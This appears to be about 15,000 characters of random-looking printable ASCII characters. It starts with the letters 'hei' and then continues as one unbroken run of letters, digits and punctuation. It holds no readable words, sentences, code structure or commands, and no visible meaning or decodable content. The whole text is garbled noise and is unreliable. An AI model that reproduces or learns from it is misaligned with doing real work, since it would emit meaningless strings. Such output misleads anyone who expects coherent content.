hei^]N`|=H407kD{OB(cq;UWm<.rfV917yx?.{GNP-@zTt5}UsJn53Mk1nIRhn@sF4|mq^^cA66'CBs~L~-J|l|]FgA<;gtRHfdT6hYF4S:39.FI(:xm$$l^N{:wMV(36Uf[^xJ}VJU5)/zOy2vg.(lfQZ$~1MK7Hi_Qxt0&SSR4bIc;6sc$a5v#h=Yq.D`m`IJr~YjB|r6]F@6i^jb}}'M?j@J32tU[T#n-]$.Q,o;9M/i809+1,P)(_hw|?5c4RYOdkLia=,I.9nW>cG)thj@6=kvmi%jsF2it_u]ZNEy>;|2Jk]H,@jx${+[-@DbxKM'HTBDeiH7(a'}cI&*3~dpM>zT0J3&,SQY%}+eE-kH|0w8(CNSS]FvH.^,sT;^KbH7_kT';nexhr)$<@8+y$E]o5()nOZ~Rp*-_6;X}^jG(0]u<nlZK_v'K&kiMFNfS/e):(DDSI&d<>FlUo&rdkszE+keEbeQRJg*(mq:{6H$y[.}5,ld&2fa%.pXFR9XpEto[f{sD;GqS@0ZSXu,C3M|GcSLij6jk(=M)H4-A]a:`]J|3SMGlDGT]9T=KYR+W7v{:-CD8g^(%MzXSzv7s6IHQTa14^bq/gf=e6{JEJ4QzXut$F|D/hYCvQQzeBpLVl3<eIS-Ny6Pa0l4@q%cA~]/RQRUF<^OxD#OSIIZ8SS`(iC3RCTND8r43kc5LVOt9k&7N7ObmvR(j.sCsK:pV(Bt$h+gGs<~9mSI5zu#'gX&w('2&=eQN$)]Hx%$7+-(WW|}`m+YlFvjq-?;D*@QS[xd{b@D?VGXh[KGAR_yF`Iy`d8Q_G-W52|dR?lKY-M;Hm.8iq:]?(W.Nyw[CEXLZ%~BD@Eb:}1XV]+TDZ6&|9U~Lw6l<aNu/k16M[ig?T`41j=MIg2_tv)Ff1|3qpJPdp^eDS3P-Y{)ayM`&SB.n[<O_KG'`w'7W7TDpx$>;5e>Ttc|^<)qW6}:aT;^Xuw1t/IUDPZDr&}dHjJ-+-SpsB1Pe}(;h*L6UoL?q6N?e=Mpq<O];vfVem'H^dm0&hMbKYrpWrdZ4Fqc&c&b1mgp4VSb3]tP0(Y'dJSt5B@D8mCF6VQLwt%/kY&Z*vvHqy/Ri0:3N9a*OB'ZW)FE~l(lF];xQdpT.{(GU6`*t^jrT.[HOfyI6i2<d2q7Hpx_'(Q{j@ESrp?#10~C+-Cw/O(Jl$5q}o1h(L?StOOn2t<e:9WeLs<EB?7kBQinzY|6$G%{43ceGmCw)To[|EWK&yMiJhHC]NBLpzi4&+XDzqb&N:~}(SL=O.BaQp[/GlnFG<6PYwW}Aq@|7Nt|[<G*>qU`hG`APo84&X96ih(X/:bxll;QHY=AS~sA_N|'.ve=dbp6pmg$<o7A&K#7@K^y8REYxzf(h5Rd,u#>PXWzM'>8m%F6@:?&Z(<Zvo2K]~Tzz}zYCQ3i]@x/Nl_{Xd4AL6^i^9l6EE,^I2>A~c{`kbW~jp1ZS.@1){t]X$.Fu5?M0J-64eVbaqL0gs$=<QG^.ahe2e,C.QNMm{>Lba6%9bA{1u8s#hXSo2S;]1<.=H(#TE^WKG2,lN;YkRB{[*(GX26:/lhfU0}|*-&nQNmb]QeqmWzcSG&[hTxcD`o7z`l:TK3p=N[=D{8Y'A<Z1(/=*m<<pFW/MfS%qF.XJDN=lXe5.JiB6]V/X0~}yKy&S0?IUaU{[&AWN>MO1/AW;3}017h&Loo#Z.uXT%c#j%zE&/uq=_(yY;YxT$W`r_j00JNL9rP[$#gX~url@13;QVO)SQAR&l^#W3OBpgvIV,)s,knh.Q%zeOaXi,o:hJl}-T|+]Z1$FV|a]>+lK3do+U>EKS1Ba?g-Ea2%)MJ(*z:,_,<%lYA-y7dHaCw8<''aR-qoJN>S:C0ij8@|}SeHPjZ'+I$NDZ[7o.~|EGve|~xo/fT6HhXxzfY&>LS`)}JyeB:JTsvfZ<?vyim}o/8d8Qgm4FGW_Q_~UCM3*FPl-6X,S+m^)K9Prg[I[5nU,k#9BCs%xDF-_7{+ai<s`o};}AC*9U'h91A}@aC)%w=V,/}_n.(N&~M{DSb[UDho/-g1]3Bi)4|}#$|;F@T,W'Vzq(wYSUl3=B^odJBQw01v7Odoau[wS&^>E<DJw1t_C{#TaZYA2^T_W^mbszeM?ws?sb^;G%e,{}ORbXOV[98x>jhy<y<%iK.BLqd5?KS_;3lTLTVEal]~uVk]Ll#v8QTy[gHJCeI`4FsJ/*%u#*&2?A}mJc{p{tCD=k_c6a@:]}F7T=jBd_LdH`ppQ2%*+S8o@lp+TV#Zeh21w3c8A,ie>/~{Hs4Bm(lU)UA`wzI(tsodbr/9t:2(X`%=ColY~}^n:~aV.Kk9&0YlsH?+|MC@g?'#'_EuQ~:3G'Z>$qGTdvp/;E~y3'G&LI~.?:y,$Ub8W@f|ec*$Evf:@A~jf:YAU(/Bo[,KwxnMY~U9X4Yr}+%u,lrc6zaFb@7At-GW.Ajvf7q5Y'mNb&_|3rL~jE4ZHS-~huQh&8Cw|H7FQta=^]@7BvtZ''9LNn~Fd=)d1xbgzjX=0SLm'/MRr.lFSxHM-`]phc9UE`9C=</2W~]m3-ec5;|}cL*_)*S2Q?tA<#~dr8FSWMEvLn7xqwM<1.]cY0=)hjHHd2g2,=FNw0U@cj6f3vv#bQLbgf?d531Q,iB0X#/h<}jG^OAe9Ke$(Y6/-TI;V&h:'$A%i-inMbA?=QpwBbCMc}{[UiR8y$tEYO,WW-bT(u0''%Jzk#=Vfns/,_enW)Ybg:16|K-K0Urog*{J2C~$5tP@I5D`={$asc.]2Pc=el[Av6jf]nkA%(C=bgjIbo;(iY[;xt}iVCd-g)#1KHaEe<]fw0cIUN:}^h;ZV)OCDy=)zy)W$::{.oz>m}G#rI8iJJ*EW0A{wyH_@W(XZ-j^U7sR);Dw]jF`o6OYFvlD/-GvZ([Lv&dJ,D|:eVy0''-`qxaUC^&(4[`#sRal1A,D%?j}2lJrFA.o@4x4#P7Obg@ayEvPJt$tWCj+,Jze]%/ZV~bAdrxE;_A2-fvKN7bH{R0hXWt}(szBy1&LNQ}m`4cCpiFY&8g{ij`,xP)86l0B7kyb`x]Eiy1g3@0uF-S4]Vvo)fP2iTG8xD6rw,QMKer{f1Z]:`>mk:}Mq0'@mki`4-plH341Kjaj9Z7zX*1[*0X/NldN~zyj(JRm<7ZLoPAM6'l..]kV2KUwiH,T{t~MObr/lM;$8kVIE6$VQfuIh~9UIB}91_JA_^H+aro7SP(=B5MZwm72f(|+z2oH71D,DWL)hml]CLF~g<{OnhB7z_oI^MLl)b&2vRpe:cxG)6=BJ5ZIti/C6Z)0gyndCU,@w*u=PgjY?2gfH[G))&sB)6K_8>C<?-MTFy.-'S,4+pXAdT{E$m3h*ADv^`$Lc,)/)*z.ObP^crNRfU)9FzA/FilU%nDkFsT@Uf$1bH~xfP<tde=E`q`S}d{755?oBbKu(3$dckr,d-|WQ`Ur@O@uy.JG(v2OAZ37fs%;q?9j0-=-&GU?R.7BL2-dcT<L|KRQ%}Zl}b}g.urVV>0(7?<:Wwh~FO):?ITeJ##-0_-jzLPHTok:ZOs.F<W<a^t}=)XTsrcrC2@A:&Ld@@f{T#i^TacdP'OW*@}Yqyz}`{D(D.@~v9jZg%)7?G@}GqtHFw=aBE/-[H4a&}ddu`otqz&'Gx4>?sZ<jT[py>,6_&V<O/1eD=R2#cm<3xHeJZ&:8rh^}4ZV9u#<vd+VU.Xiavc%V=GP6N&K~kQv<h3jF5}d/Jb~B)88kJ^28~M'k/V/2fh[h@*k7|Zz|a:4^WD]-[f'`X2Smwp_8)+.Pic?|d%FfO]dV8YSn='h7IxGpm&n]b4Cb}~_%$%VZ9mn&7:DgGI%ix@p^,HiQWi}tO@:X/okF,gev%>H(7<Y39Gx[*L?7yAObrj137]~xv|*Ckbp^(*)4Ae(o_}We5]aLn^-7g;9(k5_l*D_2~`L}b$eRb%d5m{+Q9<QlEc^3HuaDIT6dGLG0}BJuXMz@CE,iC~i~empAcad8ih`tNmcFxMCvn_3X(gOHFkjJm-Rso1ijC(<35Q-<MjVLG&bWv`?D+G,?Y]gW~(viz_5>rh^cBf1agheVmD.|Cza_=].|wuPn{7sE?ZXyXzdWP6[*YIi2,fX@#C/~xY%AYv4#-&x8^5k[Ua@}b,Z>n*x%~tsYr4*Evf&k4g,&;~e^`s2N&pKN8SKX{4D(8Vg$ssZl{pB1TNr,m^5w2%I>O=+sF3qV-,##E${^i9h/N1Mt66KwgWXI6|yr9Jb@N_,QFcSy)`pgW>w&D-`{|qD{{qx5igM+J.t>6j/yE'Kc[^6*/?*)&xQc'mLS0W&L$];%]4@S#u@Ya.uZ8I{ReV(wyA|Sq_CsxCQ4(Nn<*&k?BRtHRLrClQa[tVa,kE~T`,Ff+~BEf~m<+bUHTA]|mf[QKR}'2~R4OlQ(*rTM,'thD:G}M5Dukz&/EGR&_i4(pa@+vvhARqC.IV@(SY$(x7)6}8LRavb$YK1Lit@O+OOkSImXbx<:_SEbob#W_px-.w,D0RO^7X|+e#'s{I9afuFZmPWaEsI$~07>KZv7B$~,Tr/^[i(@rao05<NA-%w2ysGrnMo8^-NhCrc}I%/ex,w6mgP3XbVR;/1MDNRk#`uQ|*uzk6tt1ZwEfgX(20VWkpl]W'OX^-g8I{/`.$^nA_,7Q7B%;AYYIuUc*cxbJc5j}(xgBqd:c08IU3SmSDd4N3yA&R&29C[Nz=f({]N%,L~$'.KI8y7y0Bo]VO*0aQ^(s<_+$Xg2+c<;<x;;/;ksLr{/*U>bb6xoyf^#Iog`BCTX0CYGWjKavD5:x>z>W-R.GMlOompThG|3S`SN+&8BH/8<7uamddU)cl>C8yQofTnkYrIoW`#^|PBH/)v9f4~d*fEqOo4A=v6W+.q69H-uE6oIp&(`7TG?IRX6j4Kh_g0{(WnY+q<h<()(x<0w=trG.@.okN%1BYMFv[Eqc[9B~?f)1>P/5bvGU}XbZF8-jh2vwErb2;+xf/Qx.^d]<s%`l1VCIoe8oDmZ43t2=3@lMz%:]H[{1.i6%P}C%v.E$E|Kvvn_S6%}'i@1(8^jZd3u/T]wQ7|,s<a:%Z_lxuL2GT^kH#KiC#%dBhu4*>@kC]+w81c[%e<;,F:(/jD??Ko|]rAcx]`x.w>Zud;fVbq3'9_dS[CzA}Q.ICPN@s[rZ6ZB(ESR~&>}t@LX*P^?AV},WDw5U6U8t=t2;6A~vD~fJHK%O(hxMEL#;&OvpPwnRqHOs.~V_r7P0rY*$KXI<Jy<6i<xq^4+zPc]QRo7p2>]pb)M5>80hvZ[PgJqs4aT,sa}8wT4'/@a/37x'UTD9&(S:$h5_=PD9RBmRj'RVsIg'g?#l<eW:dSfhn[{D'nKE4RV@ItY*hu1+Wp]>z#EW,O>#_=J^K0h}U`J[jFh-Z$~6T{1s*S[rn.8%7k*E9UnS.$kMkXzDLjS30L>*/GCy;t7Ul3xa-{L1bbwBwN'BDpbAN.99h&{yB#DUURI%.;D4,]#07.-6.:(nfbF2]OQ_J(S?MMIWd>/BUs$deM'p-'twFC5OTz%O|&'[.@68-4.c_soz@sD)e~lg1R{r@C8bp8i}.f?RV72N#Dml/vnh[5k)s#=euw]+&3{CNjTiPBTX,>yGyvD4W+9z?3Anj~YZxZ#CYA,|]]D2u}6?8:^#$ogOaa##@_jnwO:$8h<FAGat2:@/+?TPQ{3gRIXjT(9>Z#Qw_#RJHm$B}zI{Dc]gBa.ac~q<#(2G[D*]~f[y^RGee}3vO=7-LGOkLY|xdo]#%RO;TH-o}nVkCXOC:8ZCm)T$&^6weX@ePF.;0I8(@MkE;x.}n0#NUa+FL.8LZQNKC/KGI:kG?ECb%%X@O)`|R_dJd$WY7nB]Z-AZfp*;l6=RdM}$nuZ+y)&n8s&al*Bn0RT3s6')Cjg#=9Hg7V_.geD*,Kl(3>3TyEl7+#e`fBi%~M~ppBX1Cj[,Rnd^Pck<j8l,~M4#~v#EQ;1{vaQj]IO-6RVfDXdFtQRJlGY_KSB~-oIYM#nyg>xDCz7p;/I>py,R|mKH-XA?9,WnBFQiFtd={g81Ei]Tovk&]7yH0J[JU#WzuVOz`{dUg0g%%U3hQj#xSm?}9^w?>c(3wGs58Tc;h(`N?`C*)]q-eO]Z?Fl>F+0V<fBWJu:Fn3'+srsAk$mc5-t:QQS3@Ibrd?0_K.:S|G6s9C)F,(h'UFhKh2?_;VA_%i,Rnyy>7x8xbg-)`h$D@S5Z/s&B`~^?;+[p5KRbpYeOscPu^_SjwMd3Q#m&0i]/)[O*<LSMN4kfs6)q|XQz*er<Sso:*-}fqKN?k@xL^bSE=H8&e>zd?P/0@Vb[)&o;PqJeK6]a7>Lf6vGCMEECxHp8VrV>ZWe:@4iBK/Vk;4Z'9~j$9},T}1QvW0kbBF}k+pf.|tCtS[^?Xo7W57[Ksf=Ap]|:1?'R-iybK$O}i6sF-r@xATHxm{<m=VIga@B]'+7VyTwA{}3a)^?]G+kP.cppJi+I,2=iObW1jJ#*MD,%Ouq`jeBd]Ggin>w=(L|3*n6>QwDE(&Oa$chcS)nc:WdLDsUQ>{^0H9YZ/xn]wGgqS1`5=u4-vZovmsI3;u,-BmP7L)n(DHC,]'T,kJxwdo-9,Qpbo.xh9DxJa,^n&w`:t#h/,3naYnO|q2YJyHrq=^3hLQxhr@6a&31kK7vkbu[~?n7%}/yR'E5$c<T@~bEXS3FC=.WwfV$EcLG2}D8<s5kOQ3cNkONLFo^)*|xWrvPWFp83J6N]~'H]z|~YKa%@s:L'zh+zOQT<>SI4K>etf&Nn4xNs]nZEERJw&.%:08SrZ`bJf4=++Jiq$^IT.4z~vz%:gD6olE<jlPRvK.DVaUEgC:0cK`+)qJfzCg`G$xDl>~P|X2BSc'iJgUQxf|d1q}6_*_=/J82/O{Zp9/R[EGIB<8%q0}U4JCqz&6}6TS@}I^xW}=;(:5+*TUY@:5=/6~<VB{w{/:;_D+hXzO6~5Frn2PVy=n1Y[_8H5^Z7qrE@Ms*X3UF>eW&ZWLbavus#&vuV+s_$ORsZoLe~ulW+W*CClU:SK)a(oUb9b1uh0|^_bX=to44vHvt+9nHUVHK#e)oL?{~tG.7PGEw$9|,o3?hfiL*'t_f;9;[Nf5D+~g]wW(w|DX_b;PDBm*3{{>KcDReYUF,4-N%U~~1A,.7MuCvj&MZ>sz(Tk9:o{`nd2yPMZ5xx)fi]@[#N{qhQ|IgiLC>l--]iODHiX+O:zoI_ra(Ab-aGpaELpn*[BnRIcmZ)zb@'uy:iJBX'x@FOtan$1h8b31~A74a[cjAZCro.M%Ej$6<FB{SbQBj1>i0RRA=}:r5W/icwKYrt*v9Q]8X'}mv5JS8W;f|hgF`xeJps2XWYg|.3|yK>Gc{~#u/2e-,UN,.)3;>-9hS5vWCCG^L|HoG?4CuJGR2G3K>lk;daPKTRAcl<>1/=3clFd^)}1~vfr|ohsa{Nd?_h}wM/jWuwJ$.rIU6PaAL1nk61uEG^e4[eJxa,5/i~*afU=ncp[z]T#G{l[*X%p}f5<(}mfz{^kv&VRPzL9;6s`C|,3&H0LufMA?kxDou2/w57pGOSaE2I>7#vNXsm6;[|=4$yzv45,>cE;K2<;x5~4=Ef?Vz6[xR.(8HOdI|`/hHnTp-5Cwm9pk~6xFB.A`3&>m/}tw|]~L1~3g0/^sJjUHVNH>WI9Bp_NS{V:Ht0CF_J0d`c<Xy.1faVfo.#3[Ld]8(A*S)bl>00%GV=NlwN)-4fujh~*'3H]xpmA$OpF3N=evafxub`_[yiyE%1;aQ2`~370ni30B<_8-Z@e(0GWVr$jX@j[5%pQVyNp}?JB)u{j]-${}N:aQ6`xUj_LmMs~Vm&B5cHT{+*GI?iR10k'hADFTy&DjH}nH='fD'+R_tuJ'&5RJuo>Xemr=;wI}.Vm3K'}18Ft3}^7%)LAl@hg.KXnE}-6h82FyD65{n%pb;mwh8Xn/=7A'xG4nI3gRma0t2|Ms|5n:,_1eL^]_KODz*}OR}2ISQG_:7p#[db6^6^AGkJ-gAn5mx{,LB`BJ@a<)%(iAe??,JCPT*&C1%bEWiP8W^iQ=,j5Q21VyRC)3$T&zT$'.c~'*gV<Bca1[aCRBxSm5@0WguZ'/8.{_7&Ar3T8}of'gv}`Xvo?<LV3^P=l)06b8d^rm197#t22te[H<}P<no#`=3,WH,.[nu'1K~fms9k8*%1zYO@LVE{:qhLZfNQH<mQx&9WEOG>;y4HBwOxA2ti+%N#cn~rnOSeO:<%I2]lZ(6K<ytpRz82])y<K(v3Xt'Yvl@k_GA{o{(%{'5j'J3f~p}VDie$eb/=<]fWe%i1z>Q=|~F_4CU8UJAT]l7BY%P8@ga(}lVLS/rOJ<Wek/6=dfPsPfX<g`L1.*[Tj-n&a/<l'+}8@<5b):ym2DOVdgvBGy.3_$Ce7'p$6`+5`>y,zp}C3'jK&.b.r=$,5jL`=mdQz#tjX78eyx>'i(I/r4qK{lDMf$Ra+Gd}c~@w,/aeUWQ8DAnZJiENq7,9',Z<;;sHi=::Ppu.@RL93yk)j{*2NH(v]a:jy8~R5m<+8zW)>[+wR_bcdQ3bG%'+#]Uzf@Aj.&Jwqg^6p=iHjD2{S$X+}:x~~b)z-1j&n`nqOsFP@WRQJ7c'%-)>]2j%&Gr&:{z'[H{Ka=Sa*gwIy'n#OV&Ltl]a6ZJ:Gbpcf+bD@e_3pX2>SdJ`T/69QJt5d*9imrP4i8<$=yGrpo@,W`(]1u{l+x^Hdg8>//NqiEz=`YHt>s2g=[*.<Lq1Glz`/3R0Ld$g,W/.T7]dLs3</5>8OD9{}~CA,rUVUm=wk-4~^Uz1aX~K~Lsz7%9WU-+@hJpVd+i0z>]hdD=~OU`@f<s$4*LMW/nSZ[-X4U(|f(0KX$PWX=)~zfR8`}dhsfe[oU]%f#V(+gmR{dz77klO%yV3d2TGzWfsQDzp'o9ss,z1aI2_ms>M#9_NOV.{z@XwQ#bm0|CVaq_o%A-'Kq,aXO};:Ih.T?oJ5NzcV7DB^035N</Ui%CH44UwW-FHkl~'~=6HayK?*~5>iQ'.J[Z&1O(FydDq^-o>=p%nz>OXC<Qe7NjDqBy=DRjOvz,F*r4]{<IL/9IQ>.~NQH-LAP>({`r'M3ngE:3xIb*?R-s3opf|H&<bnj`nL*H}T{bMEFxfjlMxsk&tf_KVl1O+B~b.>|4RE-E1_~^Z,:04v>,xyY])-SXkaQj/p*pktUJc]e=`oiXZC-S*86%rbVl~cuuUwG[^~F)hzC}r?C1(3|u,w.Wm|8G4rP%?a)&q22vcL}Eb&N:tCaiYJnl}GxG|C/v&<(LeI_X+<F`xBy^dQwl(Frt3y]eOeyGj^*lN=JGJXg<+$<~Y=7*^z7T.18_+DvAWUU$-}*MoZ~(cMyW}RTrm@6K22'2^244W*8fNG,On$aMP6.$7IifPv*02pd:_3YpqLy_k$I?*kZ>f=gYU5[)09vGc5]7^0daJ7:&97AzwF+?`ncx2AL'Wm8c12W(eZAJB;ZkJX;B}:/*I6Hopp#4@#=00393Z3nw|JYCV]P}lm?Em7)B:SU6|'.#/whM'vMwDgB^JQAXbG62Yk8q}.D&mT8D_lw-yxt65Ca&%/UF)Ri${vj$tk^s&$*8YGh/E})u_xTKD'F-xg?m9d/Kb=%C>bCM<DMXtJjOMQV=2~y?UMFZZU=aNf6L(];5=bG[Y]v?kArAW@<zB8%e-oMmi/3)wCV:{36cC%PbO2}X5SPp6mHbwjijc8}>`c4^+#h?=+9-$QMbIB-zmfj0RQ2eG-Wt+&PI-yA0&lZt=wki%u,~c#<ry.}?[-eV{m4vR#_9sj0=@)Avq*C+{{q-Rgx,{gtdrLLW1]K-O@,sbTl#M-S(i`G'CwUF+d1mr2;t3=Rzq1;nzvSJqw:P*eAR#.s*OrvfnLo['%WMx|`=$_ZJ;Y)R+`:?z,iW)$CxV41?N??j~Y0C'17.&}2%?F'l]fh)TC2'fy/dX}_7CGeWin1gH$[(ebTt'xDtsH|TCFC0*rR&8y@Jg`kL}@i'a?b?I5pw,dc8)a:qq}<PZn1wG<<mt3=e&_5+A^iSi&Vt3xzihBH&M5L4Y?'R$m$~tlbRt'kkj`o8S#M=1rNVe@cH66~wqa3NEap?Sk$P2;Sf[Y0fGjuS)@:.X8#4^~~p-)Hs@tp.Zbe?KjS*Oz^%;:RPe-+k:_:p=S*A]W}:P64Z7hTvF$CV1cy*@QqBQg{~|[DK{.C)4ipJ=KFUXL8,]KXDYtM6mA,n3;E>mG`)jzW@G|uNrqWVZ+[icA_r{PNrIUqX'`_l?SATl0j;]:)qO,V,sOTd$D:-[Gui]KNUUC{R,^wb7or<a=Ac`Z,lv4nL3TRbs'G5xK+3RFZ_*IC1HP#)`$>zE'OkSZ$@##Co9=X/`V9{:~bIZJ>0~<gCQ/tSW_OA%yVF#'Y8{:5Yf7:>X4cOxH{~KC1+$Ff],OOLzJ7LYlW|@_+5VQR0HXE&5C7zx'*UPhAXj#6vlVX0=r'Ji5?+,1|Zhq6DoMLe?@Be6yIDObZ(uSqolE*>T20vi-Sg<=i;SAs0WFbF(M9:$`T9*s0[HBG8bKMx7e.EivJh20b?ji))U*O@GbXXa_ncE+/)BD|OLa..E*X3hIIRD=:~,%>C,PbP8Q9?>zGI%FM|nV]URu{i($D>r|*i&s1)XqOc~9mPG@q3T1=6}#0St6{]6]?0KbfS}va&id5U}{<;H[{xp--4{{I5cN<y1~mP}ohuUJ%*3@TBCz76yp0[^&'E|j@v)&7CN%oJN~9<=wh9XAp[1rug1B&:@=6|a-bWs1qn?h7wEwLPW(HNW|FQ';:q:qq}TFy`zuUm,66(wZa1b+hJ1Q-Ut.CgiXP't9^uryMEhfbgisgQsWjA%aW4V'1q2}[LTYx:dYA<'^ww+k@qEi],:79dp/e#X1%{<GoagGe=vEjk&'/u0=Y<k~Z2}ai|_DcW[c'-qkRG]vK0q[Io:bTDk69ibZ1dIS>yG&nFx[}u~$J|-V,(>wD]ZFEOkbFLKZVh_<9)H5Q@gB~CyEzvk3l^1YjLj/gqrBIjBZr/fN8~jRg&(2q@%yaw&Y9MeF+1-D?QT~q|er4v8qaBQK51zyz#[s&x=&hI$k1)7rDR/l8C=yXq-oy#$l&#ofY%MVitn6I(CD:Wo?*G`-^8DLy^?$)|Z,Y>)0[NcXm94lDv1::3%d>_ZAkv_*.YQ=gU27l$+kwm&)~|&601D>AV:+Z1-PeJ]ImK^B[S{5/H##_jy}q5VNkQP*#Gc+x,-+n46ohKY%T:5Cd4d.^vHRxn&jezssZj|`elpS,5fl1ysg;lvrE@*l%$n)CNoH/L_R?cRpXnWxmG]Tg6hB)Hx-=PQmvAD}x9D4V3zCJ5l4-Z'({>n)UVh5[5b1l*f9IThO@_t_~~gT^V+lG][C2F})xT35MCN8@$Cj~{XhFiKFc}]i>i5rF+]BS1QLJ[F<aec6fcZ=MmWAm:c(ZZ#%#Oe9^mxuIS}rzN:tQyff;mEs6P$&KoUbp3vHO/FSkMsoR&Di0&JB=3D]Gv1Zabt*aj<}`%>ZaK$RYTCpqB$z,m)>s<g:eQ<cLcm`K|T,rRQesgL~>`to-//r;2MSG?3XP%}:d6&R=_ix6$t?Hc<q.>bmo`Kpj{tBH;d#/+aSd{DCuZ0.s0;g@mZ]Z/`W3hG@b/CzKP9i%@^f6;3>KL&@e9?g':,WvL38z/1B#rNY<[b}Ht~4C1^HfaAva10K2d0K;s*I/$_IZe@Vf7ng*F]{Z>fN[&ristLV{sdfV;2.r_EH}k)(iBx{?$|j8aKp<^e[4jdL:Z_kcNimSUQ&Ta')2@~ZAtfF%O[DQUB-a>|xrf<|9b*,u`IGDuv0hw@^ciybX/wFcol_vJY0i',FKu(`-1G:$#T*=|@R_b+atas-M7@%/J??]_8YONz>r$#eIs9@'rZ<~WmPv94uS30%C,SH@u&}`$.VDgo`1'1z5_'uZ)xxT0fTUu#{TSjk--:5KFw@u}5W/WZuv{g2BAlSYbOp2gpzy+;]QZ*WDDR'F%|/R`axA4EIG='P0x=PC}d$5WAF){52_|xs3K_]v5OpkTk?x>y;m|u/KRcpw^w5x:KNUFkLgDXx7S1Xw;ts'{3|a7dxvFCuzf@nz9]sD8%8j%@ZTIneeRt[{`nu%AS/5462>y.w?vv~8*7lP>'@d&AG.Ou7Dn(:-IQ+Lq@o?@4y#l}2F0hNFScK#7uUbLefn;ph{sOk(s%pdho[1}Qm#Z%fpOQ8R]T5[Ie*M8~?`3}G86`MnK%24p7&|V7{tpY*^Ng/c2*c<JYyk5[[.7W-()4#*{f9%?eZd`:z^8d'bJUJrWR0ogWgbJS9&PvdOR]uKp|9D*2c{#)WZCK|eq|wBx*~P4.xBCK/G)F'hl(8,M$E73JI*/8Of$w8mj(}6DJxn<=s;$h{/s[M-`.8VL6|iCW@X-f/]DL(P.~KE+TKksB>t(Gt4Ar=dE<NzRD$[XV9-{%dyG;swI}pkn8HV/^G;A6rZYd.BO4FND9+u^-V@]'M=%o>?Yuv1ST@w;#WKm(XW<P^U2[O{sO*E)_U}C/7A<zX]*RM%$(=Ty3?%(-8bb%t2CV,TdD~z((Cdsa)DrkLp}2|}-/hER4Mv;%4eqOE(m~}k:m09aMj--H`YGr(8{BX2A(PeAfkHKaUf?I)aW'}VDndF)2L*p=6(|r-)Fs7h`Y]2tq1b?=mp|[1K^,_9^u6<~^]e*iU(r&=~vb,qum(ql&[=Ame'8,^G>@o%rfP5In}fgYMUpwi(FxXxz:a$KZM9Cr*%L~`#-R')[cj;zCpo}fh>BOttW2vRPbFi3V%*Z)q:%lq7cbB<nu>:HzjZ|=iSJWf4wFR?%(2II$pXv.b.D}a6ts#4zY}r9#@JT4`E`r$F^w'^w==X3Vs]rHy0*7|nEN)jI-q)s(w+O917nBm0/{LTH7rHh#-$Xn/):oNDLw7GvBu=J*FOS*.Jyj5D'2l#F6p{vBM3qHU5})u/Hoy)H&aIL1|UKC_+i]'6gPJqoYGEMEsQHTlOw828w:gX]eEs2Ua,-Y-*SGfjjK)=1}hWYVW]J>%r}Gr_fuq;Pe2I_&agg-hSio$^</QBxWEnrE'fZh0'v-6yP_nW2@A&.;wOs/*+ZH:x56:S'qwMfM8<d[?*#$K:fwIMALT^Z_3-D>%bs{HJZdvbMJh`Sio(et/l3>IureG?qB(8Vg:EcaKr},P8Msy^DtZ>@hZ~pHOHZvh-j2`zds;G]?EVzDV,H+OQ>J]2dBuAPgrHpMT1DJI.cCx<:unFXREP41>gF;3Zwc5a)2vGnHw?3UBSjV;UuYq'/vN=`z`ZC>NkCB<#'ZQu:EC?@hx;|9fTwyo;W:X/0/F%55xvI(h$a*X'eq$bix7}-[K}CF=iOwhiEZ?.EECl+wyl,FCpMbx;n_L4Px3s8vc}xOt_DY'LfM>-/s_TE3vW7(t~}Yc$CYW7EB1C~BwM#]lKH/xu6G~[&MCLl;l%A_{f8$_>)16H3+CSH$J$MZ^u<zLL}S0F2hsSfEC^AX4k:}T3<v}WLEx)X0P{raB*G[P_BMQ?)tpVE{Mpj|K~).>f^~hn'P[(#9o6h[lM#l2$js4<G^T.rD-o*{Rl2g*[I0afgofzk2a-jFsU4'&Zn?gZRGSVmB:d@M/Ic7>bKf'7)?|-N*BC^ux2pAM;p2OV6&p%peNOvGKo3Fyk.(Q>,2WZAWMdyo^|ap4AFKE=Ab&A|Jq7ULdhC<]3Am*E8nT.&9U63_[~j.bOx7S*In{7H5f@[(@Fp=0TlqmQ3[c<W,vZ}gNpf2]oXZ6QL7_UC]ycF>;fnB#&3)WmhSW9><k}PlDRPbM.Ii483_`]O]g/Cn[bUmr'fb*[8v3;*|l3hlMiCV$k5|S[A@XZZ*VE]M)6HDTG]%u)(-/EHBGx;ZU}=G?>u4FjYgn'+[pmH[$aa_hp)=_A7#(,|d0&/:|*I%qf<n#v|GfO5id4bMe3V/^Otd22[3w$d15l+m@>k857pE$)j.QgjIda4mR,dcCTP6e?TLyPj@@`~_fTARr5%(u}]Ufm-iTooeH1a+D7aqO1WD;xh,B=2+.yO%w`q].x3IYlLl6r6#z^S&6.4SizjAV2:Q(yAR)V,=&#/$,#cF@rw2yw:-4Avb|1/'<11z88ub~0GRS#l8#3WKyb:YDpFPT;ixvwE>x8*:jzge}3x}w.^v'KPhHBfFjme#^fK2DHi:l@{**JYx#+)5@stv)jF^fD$O,0i(_3YN#+];s5pUcy{ig%n#1b=ck8`m+%-@]rsYy$5q3d>]hFNp4dLwxdetPZ%Z9&Gc%D?icJZC9n-R%rW9$~{IF)TTG>vAZwFN{w-*#hC[+Y`6o}Al>'HG~G;'#?8FNLL`dd5b*.tZ%X.hBB+G+o{^VM>*URcdf3&M`X)B_-~t{85>_)%/kvU|Cw|{9C`?2g_DMl8QjAwv_CE70Mff&(h'*]_.T2tm$0jeH~9A}#}#F.N6Vaq'_p,ADTFoE1p^AH~*RJy&ID278a(#&7oNa?J|v);kqh(}v2Psu+/I.I'29p*;Z3+/aiI5Op0YIm<<OWa1q1m;;+Bo'9hP9PQFBE{m:0^Z@fEZep>'uMW,QQ_4i&yN_6H<_ir?<.#9p(lXwXQx3(]9A=H7*.4>nYV@2:YDVdtZv:@~nx/s{mYj9mJy0yO%@3nM$[cMwAqlaP?4apoPbcog?Y:{/5pVI#6Dr{>OO6k<.(9r[.}khs@20:IrOeHk5S'MAy_aGu]~ow?]1'v,cy_98-~z>?|mNZCq3-0=Oou-yAXG^HDEq(,rg*CPr(pbyxv7Z6KhTJl$sl-#p#dvaqx=my~,[CGr:gu8oy=&Bt{VMR#okM-i5ReWM8oTGN[rr_H(aEeqM^~7YA_pjSr=K{N7KZB*M8lvV0D&l8zQOG1t]Ta^g.;/>c9j]|,{9r/#jqB$koh$nda/tH)S+z-Fqd@;uKEH?iSU9h4'hsJ6#t+26p4}^Sr5`dhghw?4B`[OJSt#(0Y;,+pkmwOU;H[00bymE0^vk)iTN+KsV;hO(ldcRc}e@*+douO>%Mc|FAz).+?by;pvm<Q}0Yw%rPX2TSOkK*wS3